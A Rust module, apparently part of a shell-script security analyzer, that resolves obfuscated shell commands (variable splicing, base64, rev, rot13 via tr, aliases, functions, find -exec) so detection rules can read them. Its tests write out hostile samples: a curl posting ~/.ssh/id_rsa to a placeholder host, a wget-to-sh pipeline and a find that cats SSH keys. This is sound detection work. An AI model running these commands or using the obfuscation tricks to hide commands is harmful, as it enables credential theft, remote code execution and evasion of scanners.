//! What a shell command runs once its indirections are undone: variables
//! holding constant strings expanded (`a=cu; b=rl; $a$b`, `${x:1:3}`,
//! `${x//y/z}`, `"${arr[@]}"`), command substitutions whose output is a
//! constant folded (`$(echo lrUc | rev)`, `$(printf '\x63url')`,
//! `$(base64 -d <<< Y3VybA==)`, `tr`, `xxd -r -p`), aliases and functions
//! replaced by what they stand for (`alias g=curl`, `f(){ curl "$@"; }`),
//! and `find … -exec` turned into the command it runs.
//!
//! [`Scope`] learns from the commands of a file in order and gives the text
//! of a pipeline as it runs, which the shell analyzer reads again with the
//! same rules. Everything is bounded: values, the number of names, alias
//! hops, and the bytes one file may expand to, so the cost stays linear.

use std::cell::Cell;
use std::collections::HashMap;
use std::ops::Range;

use base64::Engine as _;

use super::secrets::{names_store, secret_source};
use crate::lex::shell::{self as lex, Command, Pipeline};

/// The longest value kept for a name.
const MAX_VALUE: usize = 4096;
/// The most names (variables, aliases, functions) one file keeps.
const MAX_NAMES: usize = 2048;
/// The most bytes of resolved text one file produces, all commands
/// together: past it, commands are read as written.
const BUDGET: usize = 256 << 10;
/// The most aliases followed from one command word.
const MAX_HOPS: usize = 16;
/// How many command substitutions one word folds.
const MAX_FOLDS: usize = 16;
/// How deep substitutions inside substitutions are folded.
const MAX_NESTING: u8 = 2;
/// How far a closing `)`, `}` or backquote is looked for.
const MAX_REACH: usize = 4096;

/// Names learnt from a file's commands so far.
#[derive(Debug)]
pub(crate) struct Scope {
    vars: HashMap<String, String>,
    aliases: HashMap<String, String>,
    functions: HashMap<String, String>,
    /// Functions being expanded, so a recursive one is expanded once.
    active: Vec<String>,
    budget: usize,
    /// How deep the fold in progress is.
    nesting: Cell<u8>,
}

impl Default for Scope {
    fn default() -> Scope {
        Scope {
            vars: HashMap::new(),
            aliases: HashMap::new(),
            functions: HashMap::new(),
            active: Vec::new(),
            budget: BUDGET,
            nesting: Cell::new(0),
        }
    }
}

/// A pipeline as it runs, and the function it calls (if any), to be read
/// with that function marked active.
#[derive(Debug)]
pub(crate) struct Resolved {
    pub(crate) text: String,
    pub(crate) function: Option<String>,
}

impl Scope {
    /// Records the functions a parse found, with their bodies.
    pub(crate) fn define(&mut self, src: &str, functions: &[(String, Range<usize>)]) {
        for (name, body) in functions {
            let Some(text) = src.get(body.clone()) else {
                continue;
            };
            if text.len() <= MAX_VALUE * 4 && self.room(&self.functions, name) {
                self.functions.insert(name.clone(), text.to_string());
            }
        }
    }

    /// Marks the end of a function's expansion.
    pub(crate) fn leave(&mut self, name: &str) {
        if let Some(i) = self.active.iter().rposition(|n| n == name) {
            self.active.remove(i);
        }
    }

    fn room(&self, map: &HashMap<String, String>, name: &str) -> bool {
        map.len() < MAX_NAMES || map.contains_key(name)
    }

    /// Learns what `command` assigns: variables (`x=…`, `export x=…`,
    /// `local`, `declare`, `readonly`), aliases, `unset`.
    pub(crate) fn learn(&mut self, command: &Command) {
        let words = &command.words;
        let first = words.first().map(|w| w.text.as_str());
        let program = words
            .iter()
            .map(|w| w.text.as_str())
            .find(|w| assignment(w).is_none());
        if program == Some("read") {
            self.read(command);
            return;
        }
        match first {
            Some("alias") => {
                for w in &words[1..] {
                    if let Some((name, value)) = w.text.split_once('=')
                        && !name.is_empty()
                        && value.len() <= MAX_VALUE
                        && self.room(&self.aliases, name)
                    {
                        self.aliases.insert(name.to_string(), value.to_string());
                    }
                }
                return;
            }
            Some("read") => {
                self.read(command);
                return;
            }
            Some("unset" | "unalias") => {
                for w in &words[1..] {
                    self.vars.remove(&w.text);
                    self.aliases.remove(&w.text);
                }
                return;
            }
            _ => {}
        }
        let declares = matches!(
            first,
            Some("export" | "local" | "declare" | "typeset" | "readonly")
        );
        let only_assignments = words
            .iter()
            .skip(usize::from(declares))
            .all(|w| w.text.starts_with('-') || assignment(&w.text).is_some());
        if !only_assignments {
            return;
        }
        for w in words.iter().skip(usize::from(declares)) {
            let Some((name, append, value)) = assignment(&w.text) else {
                continue;
            };
            let value =
                if let Some(inner) = value.strip_prefix('(').and_then(|v| v.strip_suffix(')')) {
                    self.expand(inner, &[]).0
                } else {
                    self.expand(value, &[]).0
                };
            let value = if append {
                format!("{}{value}", self.vars.get(name).map_or("", String::as_str))
            } else {
                value
            };
            // Only constants: a value still holding a substitution is what
            // the taint tracking follows.
            if value.len() <= MAX_VALUE
                && !value.contains("$(")
                && !value.contains('`')
                && self.room(&self.vars, name)
            {
                self.vars.insert(name.to_string(), value);
            } else {
                self.vars.remove(name);
            }
        }
    }

    /// `IFS=, read -r a b c <<< 'x,y,z'`: the fields of a constant line.
    fn read(&mut self, command: &Command) {
        let Some(line) = command.redirects.iter().find(|r| r.op == "<<<") else {
            for w in command
                .words
                .iter()
                .skip(1)
                .filter(|w| !w.text.starts_with('-'))
            {
                self.vars.remove(&w.text);
            }
            return;
        };
        let line = self.expand(&line.target.text, &[]).0;
        let ifs = command
            .words
            .iter()
            .find_map(|w| w.text.strip_prefix("IFS="))
            .unwrap_or(" \t\n")
            .to_string();
        let names: Vec<&str> = command
            .words
            .iter()
            .skip_while(|w| w.text != "read")
            .skip(1)
            .map(|w| w.text.as_str())
            .filter(|w| !w.starts_with('-'))
            .collect();
        let mut fields = line
            .split(|c: char| ifs.contains(c))
            .filter(|f| !f.is_empty() || !ifs.contains(' '));
        for (i, name) in names.iter().enumerate() {
            let value = if i + 1 == names.len() {
                fields
                    .by_ref()
                    .collect::<Vec<_>>()
                    .join(&ifs[..ifs.chars().next().map_or(0, char::len_utf8)])
            } else {
                fields.next().unwrap_or("").to_string()
            };
            if value.len() <= MAX_VALUE && self.room(&self.vars, name) {
                self.vars.insert((*name).to_string(), value);
            }
        }
    }

    /// The text `pipeline` of `src` runs, when an indirection changes it:
    /// a variable, alias or function expanded, a substitution folded, a
    /// `find -exec` unwrapped. `None` when it runs as written, or past the
    /// budget.
    pub(crate) fn resolve(&mut self, src: &str, pipeline: &Pipeline) -> Option<Resolved> {
        if self.budget == 0 {
            return None;
        }
        let mut parts = Vec::with_capacity(pipeline.commands.len());
        let mut changed = false;
        let mut function = None;
        for command in &pipeline.commands {
            let original = src.get(command.span.clone()).unwrap_or("");
            if command.words.is_empty() {
                parts.push(original.to_string());
                continue;
            }
            let (text, called, did) = self.command(command);
            changed |= did;
            if called.is_some() {
                function = called;
            }
            parts.push(text);
        }
        if !changed {
            return None;
        }
        let text = parts.join(" | ");
        if text.len() > self.budget {
            self.budget = 0;
            return None;
        }
        self.budget -= text.len();
        if let Some(name) = &function {
            self.active.push(name.clone());
        }
        Some(Resolved { text, function })
    }

    /// One command as it runs: its text, the function it calls, and
    /// whether anything changed.
    fn command(&self, command: &Command) -> (String, Option<String>, bool) {
        let words = &command.words;
        let mut changed = false;
        let start = words
            .iter()
            .position(|w| assignment(&w.text).is_none())
            .unwrap_or(words.len());
        let mut out: Vec<String> = Vec::with_capacity(words.len());
        for w in &words[..start] {
            out.push(quote(&w.text));
        }
        let mut function = None;
        if let Some(head) = words.get(start) {
            // Aliases, followed a bounded number of hops: the first word
            // of the value replaces the name, the rest goes before the
            // arguments.
            let mut name = head.text.clone();
            let mut tail = String::new();
            let mut hops = 0;
            while !head.quoted
                && hops < MAX_HOPS
                && let Some(value) = self.aliases.get(&name)
            {
                changed = true;
                hops += 1;
                let value = value.trim();
                let (first, rest) = value.split_once(char::is_whitespace).unwrap_or((value, ""));
                if !rest.is_empty() {
                    tail = format!("{rest} {tail}");
                }
                name = first.to_string();
            }
            let args: Vec<String> = words[start + 1..]
                .iter()
                .map(|w| {
                    let (text, did) = self.expand(&w.text, &[]);
                    changed |= did;
                    text
                })
                .collect();
            let (head_text, did) = self.expand(&name, &[]);
            changed |= did;
            let program = head_text.trim();
            // A function is read again at a call only when the call hands
            // it what matters (an address, a key file, a secret): a call
            // without such arguments runs the body as already read in place.
            if let Some(body) = self.functions.get(program)
                && !self.active.iter().any(|a| a == program)
                && args.iter().any(|a| carries(a))
            {
                let quoted: Vec<String> = args.iter().map(|a| quote(a)).collect();
                out.push(positional(body, &quoted));
                function = Some(program.to_string());
                return (out.join(" "), function, true);
            }
            if program == "find"
                && let Some(exec) = find_exec(&args)
            {
                return (exec, None, true);
            }
            out.push(head_text);
            if !tail.is_empty() {
                out.push(tail.trim_end().to_string());
            }
            for (a, w) in args.iter().zip(&words[start + 1..]) {
                // A word that is one expansion splits into its fields.
                if whole_expansion(&w.text) {
                    out.push(a.clone());
                } else {
                    out.push(quote(a));
                }
            }
        }
        for r in &command.redirects {
            if r.heredoc.is_some() {
                continue;
            }
            let (target, did) = self.expand(&r.target.text, &[]);
            changed |= did;
            out.push(format!("{}{}", r.op, quote(&target)));
        }
        (out.join(" "), function, changed)
    }

    /// `text` with the variables it names expanded where known and the
    /// command substitutions folded where constant; `args` are `$1`, `$@`.
    /// Returns whether anything was expanded.
    fn expand(&self, text: &str, args: &[String]) -> (String, bool) {
        if !text.contains(['$', '`']) {
            return (text.to_string(), false);
        }
        let mut out = String::with_capacity(text.len());
        let mut changed = false;
        let mut folds = 0;
        let mut rest = text;
        while let Some(i) = rest.find(['$', '`']) {
            out.push_str(&rest[..i]);
            rest = &rest[i..];
            if out.len() > MAX_VALUE {
                break;
            }
            let (consumed, value) = if let Some(body) = rest.strip_prefix('`') {
                match body
                    .get(..body.len().min(MAX_REACH))
                    .and_then(|b| b.find('`'))
                {
                    Some(end) if folds < MAX_FOLDS => {
                        folds += 1;
                        (end + 2, self.fold(&body[..end]))
                    }
                    _ => (1, None),
                }
            } else {
                self.dollar(rest, args, &mut folds)
            };
            match value {
                Some(v) => {
                    out.push_str(&v);
                    changed = true;
                }
                None => out.push_str(&rest[..consumed.max(1)]),
            }
            rest = &rest[consumed.max(1).min(rest.len())..];
        }
        out.push_str(rest);
        out.truncate(floor(&out, MAX_VALUE));
        (out, changed)
    }

    /// At a `$` of `rest`: how many bytes the expansion takes, and its
    /// value when known.
    fn dollar(&self, rest: &str, args: &[String], folds: &mut usize) -> (usize, Option<String>) {
        let b = rest.as_bytes();
        match b.get(1) {
            Some(b'(') if b.get(2) != Some(&b'(') => {
                let Some(end) = closing(rest, 1) else {
                    return (1, None);
                };
                if *folds >= MAX_FOLDS {
                    return (end + 1, None);
                }
                *folds += 1;
                (end + 1, self.fold(&rest[2..end]))
            }
            Some(b'{') => {
                let Some(end) = rest.bytes().take(256).position(|b| b == b'}') else {
                    return (1, None);
                };
                (end + 1, self.braced(&rest[2..end], args))
            }
            Some(b'@' | b'*') => (2, (!args.is_empty()).then(|| args.join(" "))),
            Some(c) if c.is_ascii_digit() => {
                let n = usize::from(c - b'0');
                (2, n.checked_sub(1).and_then(|i| args.get(i)).cloned())
            }
            Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
                let len = rest[1..]
                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                    .unwrap_or(rest.len() - 1);
                let name = &rest[1..1 + len];
                (1 + len, self.vars.get(name).cloned())
            }
            _ => (1, None),
        }
    }

    /// `${…}`: a name, a slice, a replacement, a case change, an array.
    fn braced(&self, inner: &str, args: &[String]) -> Option<String> {
        let len = inner
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(inner.len());
        let (name, op) = inner.split_at(len);
        if name.is_empty() {
            return None;
        }
        if name == "@" || name == "*" {
            return (!args.is_empty()).then(|| args.join(" "));
        }
        let Some(value) = self.vars.get(name) else {
            // `${X:-default}`: the default, when X is not known; an empty
            // default (`${1:-}`) says only that X may be unset, not what
            // it holds.
            return op
                .strip_prefix(":-")
                .or_else(|| op.strip_prefix('-'))
                .filter(|d| !d.is_empty() && !d.contains(['$', '`']))
                .map(str::to_string);
        };
        let op = op
            .strip_prefix("[@]")
            .or_else(|| op.strip_prefix("[*]"))
            .unwrap_or(op);
        if op.is_empty() {
            return Some(value.clone());
        }
        if let Some(index) = op.strip_prefix('[').and_then(|o| o.strip_suffix(']')) {
            let i: usize = index.trim().parse().ok()?;
            return value.split_whitespace().nth(i).map(str::to_string);
        }
        if let Some(slice) = op.strip_prefix(':')
            && !slice.starts_with(['-', '=', '?', '+'])
        {
            let mut it = slice.splitn(2, ':');
            let chars: Vec<char> = value.chars().collect();
            let offset: i64 = it.next()?.trim().parse().ok()?;
            let start = if offset < 0 {
                chars.len().saturating_sub(offset.unsigned_abs() as usize)
            } else {
                (offset as usize).min(chars.len())
            };
            let end = match it.next() {
                Some(l) => {
                    let l: i64 = l.trim().parse().ok()?;
                    if l < 0 {
                        chars.len().saturating_sub(l.unsigned_abs() as usize)
                    } else {
                        start.saturating_add(l as usize).min(chars.len())
                    }
                }
                None => chars.len(),
            };
            return Some(chars.get(start..end.max(start))?.iter().collect());
        }
        if let Some(rep) = op.strip_prefix('/') {
            let (all, rep) = match rep.strip_prefix('/') {
                Some(r) => (true, r),
                None => (false, rep),
            };
            let (from, to) = rep.split_once('/').unwrap_or((rep, ""));
            if from.is_empty() || from.contains(['*', '?', '[']) {
                return None;
            }
            return Some(if all {
                value.replace(from, to)
            } else {
                value.replacen(from, to, 1)
            });
        }
        match op {
            ",," => Some(value.to_lowercase()),
            "^^" => Some(value.to_uppercase()),
            _ => None,
        }
    }

    /// The output of a command substitution whose body prints a constant:
    /// `echo`/`printf` through `rev`, `base64 -d`, `xxd -r -p`, `tr`.
    fn fold(&self, body: &str) -> Option<String> {
        let depth = self.nesting.get();
        if depth >= MAX_NESTING {
            return None;
        }
        self.nesting.set(depth + 1);
        let folded = self.fold_pipeline(body);
        self.nesting.set(depth);
        folded
    }

    fn fold_pipeline(&self, body: &str) -> Option<String> {
        let parsed = lex::parse(body);
        let [pipeline] = parsed.pipelines.as_slice() else {
            return None;
        };
        let mut value: Option<String> = None;
        for command in &pipeline.commands {
            let words: Vec<String> = command
                .words
                .iter()
                .map(|w| self.expand(&w.text, &[]).0)
                .collect();
            let (program, args) = words.split_first()?;
            let stdin = command
                .redirects
                .iter()
                .find(|r| r.op == "<<<")
                .map(|r| format!("{}\n", self.expand(&r.target.text, &[]).0))
                .or(value.take());
            value = Some(run(program, args, stdin)?);
            if value.as_ref().is_some_and(|v| v.len() > MAX_VALUE) {
                return None;
            }
        }
        value.map(|v| v.trim_end_matches('\n').to_string())
    }
}

/// What one foldable program prints for `stdin`.
fn run(program: &str, args: &[String], stdin: Option<String>) -> Option<String> {
    let flags: Vec<&str> = args
        .iter()
        .map(String::as_str)
        .filter(|a| a.starts_with('-'))
        .collect();
    let operands: Vec<&str> = args
        .iter()
        .map(String::as_str)
        .filter(|a| !a.starts_with('-'))
        .collect();
    match program {
        "echo" => {
            let text = operands.join(" ");
            let text = if flags.iter().any(|f| f.contains('e')) {
                unescape(&text)
            } else {
                text
            };
            let newline = if flags.iter().any(|f| f.contains('n')) {
                ""
            } else {
                "\n"
            };
            Some(format!("{text}{newline}"))
        }
        "printf" => {
            let (format, rest) = args.split_first()?;
            let mut out = unescape(format);
            for a in rest {
                if let Some(i) = out.find("%s").or_else(|| out.find("%b")) {
                    out.replace_range(i..i + 2, a);
                }
            }
            Some(out)
        }
        "rev" => Some(
            stdin?
                .lines()
                .map(|l| l.chars().rev().collect::<String>())
                .collect::<Vec<_>>()
                .join("\n"),
        ),
        "base64" | "base32" if flags.iter().any(|f| matches!(*f, "-d" | "--decode" | "-D")) => {
            if program == "base32" {
                return None;
            }
            let input: String = stdin?
                .chars()
                .filter(|c| !c.is_whitespace() && *c != '=')
                .collect();
            let bytes = base64::engine::general_purpose::STANDARD_NO_PAD
                .decode(input.as_bytes())
                .ok()?;
            String::from_utf8(bytes).ok()
        }
        "xxd" if flags.iter().any(|f| f.contains('r')) => {
            let digits: Vec<u8> = stdin?.bytes().filter(u8::is_ascii_hexdigit).collect();
            let bytes: Option<Vec<u8>> = digits
                .chunks(2)
                .map(|p| {
                    std::str::from_utf8(p)
                        .ok()
                        .and_then(|s| u8::from_str_radix(s, 16).ok())
                })
                .collect();
            String::from_utf8(bytes?).ok()
        }
        "tr" => {
            let input = stdin?;
            if flags.iter().any(|f| f.contains('d')) {
                let set = expand_set(operands.first()?)?;
                return Some(input.chars().filter(|c| !set.contains(c)).collect());
            }
            let from = expand_set(operands.first()?)?;
            let to = expand_set(operands.get(1)?)?;
            let last = *to.last()?;
            Some(
                input
                    .chars()
                    .map(|c| match from.iter().position(|f| *f == c) {
                        Some(i) => to.get(i).copied().unwrap_or(last),
                        None => c,
                    })
                    .collect(),
            )
        }
        "cat" if operands.is_empty() => stdin,
        _ => None,
    }
}

/// A `tr` set with its ranges (`a-z`) expanded; at most 256 characters.
fn expand_set(set: &str) -> Option<Vec<char>> {
    let chars: Vec<char> = unescape(set).chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if chars.get(i + 1) == Some(&'-')
            && let Some(&end) = chars.get(i + 2)
            && end >= c
        {
            for x in c..=end {
                out.push(x);
                if out.len() > 256 {
                    return None;
                }
            }
            i += 3;
        } else {
            out.push(c);
            i += 1;
        }
        if out.len() > 256 {
            return None;
        }
    }
    Some(out)
}

/// `printf`'s and `echo -e`'s escapes: `\xHH`, `\NNN` (octal), `\uHHHH`,
/// `\n`, `\t`, `\\`.
pub(crate) fn unescape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else {
            out.push('\\');
            break;
        };
        let mut digits = |radix: u32, max: usize, first: Option<char>| {
            let mut s: String = first.into_iter().collect();
            while s.len() < max
                && let Some(&d) = chars.peek()
                && d.is_digit(radix)
            {
                s.push(d);
                chars.next();
            }
            u32::from_str_radix(&s, radix).ok().and_then(char::from_u32)
        };
        let decoded = match e {
            'x' => digits(16, 2, None),
            'u' => digits(16, 4, None),
            'U' => digits(16, 8, None),
            '0'..='7' => digits(8, 3, Some(e)),
            'n' => Some('\n'),
            't' => Some('\t'),
            'r' => Some('\r'),
            '\\' => Some('\\'),
            _ => None,
        };
        match decoded {
            Some(d) => out.push(d),
            None => {
                out.push('\\');
                out.push(e);
            }
        }
    }
    out
}

/// Whether an argument carries what the rules look for: an address, a
/// credential store, a socket, a secret.
fn carries(arg: &str) -> bool {
    arg.contains("://") || arg.contains("/dev/tcp") || names_store(arg) || secret_source(arg)
}

/// `name=value` or `name+=value`.
fn assignment(word: &str) -> Option<(&str, bool, &str)> {
    let (name, value) = word.split_once('=')?;
    let (name, append) = match name.strip_suffix('+') {
        Some(n) => (n, true),
        None => (name, false),
    };
    let ok = name
        .bytes()
        .next()
        .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    ok.then_some((name, append, value))
}

/// Whether a word is one expansion and nothing else (`$X`, `${X[@]}`).
fn whole_expansion(word: &str) -> bool {
    let Some(rest) = word.strip_prefix('$') else {
        return false;
    };
    if let Some(inner) = rest.strip_prefix('{') {
        return inner.find('}') == Some(inner.len() - 1);
    }
    !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

/// `word` quoted for a shell when it needs to be.
fn quote(word: &str) -> String {
    if !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"_@%+=:,./~-{}[]*?$!#^".contains(&b))
    {
        return word.to_string();
    }
    format!("'{}'", word.replace('\'', "'\\''"))
}

/// A function's body with its positional parameters replaced by `args`
/// (already quoted).
fn positional(body: &str, args: &[String]) -> String {
    let all = args.join(" ");
    let mut out = body
        .replace("\"$@\"", &all)
        .replace("\"${@}\"", &all)
        .replace("\"$*\"", &all)
        .replace("$@", &all)
        .replace("$*", &all);
    for (i, a) in args.iter().enumerate().take(9).rev() {
        let n = i + 1;
        out = out
            .replace(&format!("\"${n}\""), a)
            .replace(&format!("\"${{{n}}}\""), a)
            .replace(&format!("${{{n}}}"), a)
            .replace(&format!("${n}"), a);
    }
    out.truncate(floor(&out, MAX_VALUE * 4));
    out
}

/// `find PATH … -exec CMD {} ;`: the command it runs, `{}` standing for
/// everything under the paths searched.
fn find_exec(args: &[String]) -> Option<String> {
    let at = args
        .iter()
        .position(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"))?;
    let root = args
        .iter()
        .take_while(|a| !a.starts_with('-'))
        .map(|p| format!("{}/*", p.trim_end_matches('/')))
        .collect::<Vec<_>>()
        .join(" ");
    let root = if root.is_empty() {
        "./*".to_string()
    } else {
        root
    };
    let exec: Vec<String> = args[at + 1..]
        .iter()
        .take_while(|a| *a != ";" && *a != "+")
        .map(|a| quote(&a.replace("{}", &root)))
        .collect();
    (!exec.is_empty()).then(|| exec.join(" "))
}

/// Where the `)` closing the `(` at `open` is, skipping quotes.
fn closing(text: &str, open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut quote: Option<u8> = None;
    for (i, &b) in text
        .as_bytes()
        .iter()
        .enumerate()
        .skip(open)
        .take(MAX_REACH)
    {
        match (quote, b) {
            (Some(q), _) if b == q => quote = None,
            (Some(_), _) => {}
            (None, b'\'' | b'"') => quote = Some(b),
            (None, b'(') => depth += 1,
            (None, b')') => {
                depth = depth.checked_sub(1)?;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
    }
    None
}

/// The largest char boundary of `s` at or below `max`.
fn floor(s: &str, max: usize) -> usize {
    if s.len() <= max {
        return s.len();
    }
    (0..=max)
        .rev()
        .find(|&i| s.is_char_boundary(i))
        .unwrap_or(0)
}

/// Words of a command, for tests.
#[cfg(test)]
fn words(src: &str) -> Vec<lex::Word> {
    lex::parse(src)
        .pipelines
        .into_iter()
        .flat_map(|p| p.commands)
        .flat_map(|c| c.words)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The last pipeline of `src` as it runs, after learning the others.
    fn resolved(src: &str) -> Option<String> {
        let parsed = lex::parse(src);
        let mut scope = Scope::default();
        scope.define(src, &parsed.functions);
        let (last, before) = parsed.pipelines.split_last()?;
        for p in before {
            for c in &p.commands {
                scope.learn(c);
            }
        }
        scope.resolve(src, last).map(|r| r.text)
    }

    #[test]
    fn folds_strings() {
        assert_eq!(
            resolved("a=cu; b=rl; $a$b -s x").as_deref(),
            Some("curl -s x")
        );
        assert_eq!(
            resolved("x=xxcurlyy\n${x:2:4} https://h.example").as_deref(),
            Some("curl https://h.example")
        );
        assert_eq!(
            resolved("c=$(echo lruc | rev)\n$c a").as_deref(),
            Some("curl a")
        );
        assert_eq!(
            resolved(concat!(r"c=$(printf '\x63\x75\x72\x6c')", "\n$c a")).as_deref(),
            Some("curl a")
        );
        assert_eq!(
            resolved("c=$(base64 -d <<< Y3VybA==)\n$c a").as_deref(),
            Some("curl a")
        );
        assert_eq!(
            resolved("c=$(echo phey | tr 'a-z' 'n-za-m')\n$c a").as_deref(),
            Some("curl a")
        );
        assert_eq!(
            resolved("a=(curl -d @f https://h.example)\n\"${a[@]}\"").as_deref(),
            Some("curl -d @f https://h.example")
        );
        assert_eq!(resolved("x=1\necho plain"), None);
    }

    #[test]
    fn fields_and_defaults() {
        assert_eq!(
            resolved("IFS=, read -r a b c <<< 'wg,et,-q'\n\"$a$b\" $c | ${SHELL:-sh}").as_deref(),
            Some("wget -q | sh")
        );
    }

    #[test]
    fn aliases_and_functions() {
        assert_eq!(
            resolved("alias g=curl\ng -s x").as_deref(),
            Some("curl -s x")
        );
        let r = resolved("f(){ curl \"$@\"; }\nf -d @~/.ssh/id_rsa https://h.example").unwrap();
        assert!(
            r.contains("curl -d @~/.ssh/id_rsa https://h.example"),
            "{r}"
        );
        let r = resolved("function f { curl \"$1\"; }\nf https://h.example").unwrap();
        assert!(r.contains("curl https://h.example"), "{r}");
        assert_eq!(
            resolved("find ~/.ssh -name 'id*' -exec cat {} \\;").as_deref(),
            Some("cat ~/.ssh/*")
        );
    }

    #[test]
    fn bounded() {
        // A long alias chain stops after a bounded number of hops.
        let mut src = String::new();
        for i in 0..100 {
            src.push_str(&format!("alias a{i}=a{}\n", i + 1));
        }
        src.push_str("a0 x\n");
        assert!(resolved(&src).is_some());
        assert_eq!(unescape(r"\x41\101\u0042\q"), "AAB\\q");
        assert_eq!(words("a=(x y)")[0].text, "a=(x y)");
    }
}
